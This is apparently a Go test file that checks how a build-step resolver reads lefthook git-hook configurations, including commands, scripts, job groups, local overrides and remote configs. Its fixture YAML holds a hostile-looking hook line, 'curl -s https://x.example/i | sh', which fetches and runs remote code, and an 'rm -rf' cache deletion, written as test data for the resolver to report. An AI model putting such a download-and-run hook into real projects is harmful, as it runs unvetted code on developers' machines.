package buildfile

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestResolveLefthook: lefthook run HOOK runs the hook's commands and jobs
// (in their root) and its scripts from .lefthook/HOOK/ by their runner,
// from the configuration and a local override; --commands chooses some.
func TestResolveLefthook(t *testing.T) {
	cfg := "pre-commit:\n  commands:\n    lint:\n      run: npm run lint {staged_files}\n    web:\n      root: web/\n      run: rm -rf ~/.cache/web\n" +
		"  scripts:\n    \"check.sh\":\n      runner: bash\npre-push:\n  jobs:\n    - name: test\n      run: go test ./...\n" +
		"    - group:\n        jobs:\n          - run: curl -s https://x.example/i | sh\n"
	local := "pre-commit:\n  commands:\n    extra:\n      run: echo local\n"
	for _, tc := range []struct {
		name, cmd string
		files     fakeFiles
		want      []Step
		problems  []string
	}{
		{"commands and scripts", "lefthook run pre-commit", fakeFiles{"/w/lefthook.yml": cfg, "/w/.lefthook/pre-commit/check.sh": "echo ok\n"},
			[]Step{st("lefthook.yml", 4, "npm run lint {staged_files}"),
				{File: "/w/lefthook.yml", Line: 7, Text: "rm -rf ~/.cache/web", Lang: Shell, Dir: "/w/web"},
				st("lefthook.yml", 9, "bash /w/.lefthook/pre-commit/check.sh")}, nil},
		{"only the commands chosen", "lefthook run pre-commit --commands web", fakeFiles{"/w/lefthook.yml": cfg},
			[]Step{{File: "/w/lefthook.yml", Line: 7, Text: "rm -rf ~/.cache/web", Lang: Shell, Dir: "/w/web"}}, nil},
		{"jobs and groups", "lefthook run pre-push", fakeFiles{"/w/.lefthook.yml": cfg},
			[]Step{st(".lefthook.yml", 14, "go test ./..."), st(".lefthook.yml", 17, "curl -s https://x.example/i | sh")}, nil},
		{"a local override adds commands", "lefthook run pre-commit --commands extra", fakeFiles{"/w/lefthook.yml": cfg, "/w/lefthook-local.yml": local},
			[]Step{st("lefthook-local.yml", 4, "echo local")}, nil},
		{"a hook the configuration does not have", "lefthook run commit-msg", fakeFiles{"/w/lefthook.yml": cfg}, nil, nil},
		{"remote configuration", "lefthook run pre-commit", fakeFiles{"/w/lefthook.yml": "remotes:\n  - git_url: https://x.example/hooks\npre-commit:\n  commands:\n    a:\n      run: echo a\n"},
			[]Step{st("lefthook.yml", 6, "echo a")}, []string{"lefthook fetches configuration from remote repositories, which is not read"}},
		{"not YAML", "lefthook run pre-commit", fakeFiles{"/w/lefthook.yml": "pre-commit: [\n"}, nil, []string{"the lefthook configuration is not valid YAML"}},
		{"install runs nothing", "lefthook install", fakeFiles{"/w/lefthook.yml": cfg}, nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := strings.Fields(tc.cmd)
			plan := Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w}, tc.files)
			if diff := cmp.Diff(tc.want, plan.Steps); diff != "" {
				t.Errorf("%s steps (-want +got):\n%s", tc.cmd, diff)
			}
			var problems []string
			for _, p := range plan.Problems {
				problems = append(problems, p.Reason)
			}
			if diff := cmp.Diff(tc.problems, problems); diff != "" {
				t.Errorf("%s problems (-want +got):\n%s", tc.cmd, diff)
			}
		})
	}
}

func FuzzLefthook(f *testing.F) {
	f.Add("pre-commit:\n  commands:\n    a:\n      run: echo {files}\n      root: x\n  scripts:\n    \"s.sh\":\n      runner: bash\n  jobs:\n    - group:\n        jobs: [{run: id}]\n", "run pre-commit")
	f.Add("remotes: []\nextends: [a.yml]\npre-push: 3\n", "run pre-push --jobs a,b")
	f.Fuzz(func(t *testing.T, text, args string) {
		fuzzFile(t, "lefthook.yml", "lefthook "+args, text)
	})
}
